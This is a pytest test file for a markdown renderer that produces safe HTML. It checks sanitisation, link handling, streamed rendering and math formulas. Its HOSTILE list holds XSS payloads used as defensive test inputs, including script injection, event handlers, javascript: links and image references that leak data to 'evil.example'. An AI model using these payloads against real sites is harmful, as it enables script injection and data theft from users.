"""Markdown becomes safe HTML at one place, whole or growing."""

import random
import re
import time
from html.parser import HTMLParser

import pytest
from markdown_it import MarkdownIt

from prompts.rendering import TAGS, GrowingText, render_markdown

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox)",
    "![x](https://evil.example/leak?q=secret)",
    "![x](//evil.example/leak)",
    "<a href='https://evil.example' onclick=alert(1)>x</a>",
    "<iframe src=https://evil.example></iframe>",
    "<style>*{background:url(https://evil.example)}</style>",
    '```"><img src=x onerror=alert(1)>\ncode\n```',
    "```python onload=alert(1)\nprint('<b>')\n```",
    "| a |\n|:-|\n| <svg onload=alert(1)> |",
    '[x](https://evil.example "\\" onmouseover=alert(1) \\"")',
    "- [ ] <b onclick=alert(1)>task</b>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
]
TEXT = """# Heading

A paragraph with *emphasis*, `code` and a [link](https://docs.example/page).

- one
- two

  still two

1. first
2. second

```python
def f(x):
    return x + 1
```

| a | b |
|:-|-:|
| 1 | 2 |

> quoted

中文段落。

Last words"""


class Reader(HTMLParser):
    """What a browser would see: tags, attribute names, addresses."""

    def __init__(self, html: str):
        super().__init__()
        self.tags, self.names, self.addresses = set(), set(), []
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.names |= {name for name, _value in attrs}
        self.addresses += [value for name, value in attrs if name in ("href", "src")]


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_hostile_survives(text):
    seen = Reader(render_markdown(text))
    assert seen.tags <= TAGS
    assert not [name for name in seen.names if name.startswith("on") or name in ("style", "src", "srcdoc", "formaction")]
    assert not [address for address in seen.addresses if not address.startswith(("http://", "https://", "mailto:", "//", "/", "#"))]


def test_planted_bug_without_the_allow_list_the_test_above_fails(monkeypatch):
    monkeypatch.setattr("prompts.rendering._parser", lambda: MarkdownIt("commonmark", {"html": True}))
    monkeypatch.setattr("prompts.rendering._clean", str)
    with pytest.raises(AssertionError):
        test_nothing_hostile_survives(HOSTILE[1])


def test_links_show_their_host_and_keep_no_referrer():
    html = render_markdown("[click](https://evil.example/x)")
    assert 'rel="noopener noreferrer nofollow"' in html and "(evil.example)" in html
    assert "link-host" not in render_markdown("[docs.example](https://docs.example/)")


def test_a_picture_becomes_a_link():
    html = render_markdown("![Chart](https://pictures.example/a.png)")
    assert "<img" not in html and ">Chart</a>" in html and "(pictures.example)" in html


def test_code_is_highlighted_and_escaped():
    html = render_markdown("```python\nif a < b:\n    pass\n```")
    assert 'class="language-python"' in html and '<span class="k">if</span>' in html and "&lt;" in html


def test_tables_align_by_class():
    assert '<td class="align-right">' in render_markdown("| a |\n|-:|\n| 1 |")


@pytest.mark.parametrize("seed", range(20))
def test_a_growing_text_ends_as_the_whole_text(seed):
    """However the text is cut into pieces, the finished blocks and the last one are what the whole renders to."""
    dice, growing, html, tail, rest = random.Random(seed), GrowingText(), "", "", TEXT
    while rest:
        size = dice.randint(1, 12)
        finished, tail = growing.grow(rest[:size])
        html, rest = html + finished, rest[size:]
    assert re.sub(r"\s+", "", html + tail) == re.sub(r"\s+", "", render_markdown(TEXT))


def test_finished_blocks_are_given_once():
    growing = GrowingText()
    assert growing.grow("One.\n\nTw")[0] == "<p>One.</p>\n"
    finished, tail = growing.grow("o.")
    assert (finished, tail) == ("", "<p>Two.</p>\n")


# -- a long block that still grows -------------------------------------------------------------------------------------

CODE = "```python\n" + "    x = foo(bar, baz)[1:2]  # something\n" * 400


def test_code_that_is_still_written_is_not_coloured():
    growing = GrowingText()
    assert "<span" not in growing.grow("```python\nif a < b:\n    pass\n")[1]
    assert "<span" not in growing.grow("```")[1]
    assert '<span class="k">if</span>' in growing.grow("\n\nThat was it.")[0], "finished"


def test_what_is_added_unrendered_is_rendered_with_the_next_piece():
    growing = GrowingText()
    growing.add("One.\n\nTw")
    assert growing.size == 8
    assert growing.grow("o.") == ("<p>One.</p>\n", "<p>Two.</p>\n")


def test_a_long_open_block_of_code_is_cheap_to_render_again():
    growing = GrowingText()
    growing.grow(CODE)
    start_s = time.thread_time()
    for _time in range(100):
        growing.grow("    y = 1\n")
    assert time.thread_time() - start_s < 1, "with colours it takes some seconds"


# -- formulas ----------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "html"),
    [
        (r"\(a_1 * b_2 * c\)", '<p><code class="math">a_1 * b_2 * c</code></p>'),
        ("$a*b*c$ and $x_1$.", '<p><code class="math">a*b*c</code> and <code class="math">x_1</code>.</p>'),
        ("so\n$$\na\n= b\n- c \\\\\n$$", '<p>so</p>\n<p><code class="math math-block">a\n= b\n- c \\\\</code></p>'),
        (r"\[1 < 2 \\ 3\]", r'<p><code class="math math-block">1 &lt; 2 \\ 3</code></p>'),
        ("It costs $5 and $10, or US$5 to US$10*.", "<p>It costs $5 and $10, or US$5 to US$10*.</p>"),
        (r"\$a*b*c\$", "<p>$a<em>b</em>c$</p>"),
        ("`$a$`", "<p><code>$a$</code></p>"),
        ("$$open\n\nend", "<p>$$open</p>\n<p>end</p>"),
        (r"$<script>$", '<p><code class="math">&lt;script&gt;</code></p>'),
    ],
)
def test_formulas_are_kept_as_they_were_written(text, html):
    assert render_markdown(text).strip() == html


@pytest.mark.parametrize("opening", [r"\(", r"so \[", "\\[\n"])
def test_formulas_left_open_take_no_more_than_linear_time(opening):
    def render_s(count: int) -> float:
        start_s = time.thread_time()
        render_markdown(opening * count)
        return time.thread_time() - start_s

    short_s, long_s = (min(render_s(count) for _time in range(3)) for count in (10_000, 40_000))
    assert long_s < 8 * short_s, "four times the text; where each looks to the end of it, it takes about fifteen times as long"


def test_a_block_has_as_many_lines_as_it_likes():
    lines = "a\n" * 200
    assert render_markdown(f"$$\n{lines}$$").count('<code class="math math-block">') == 1
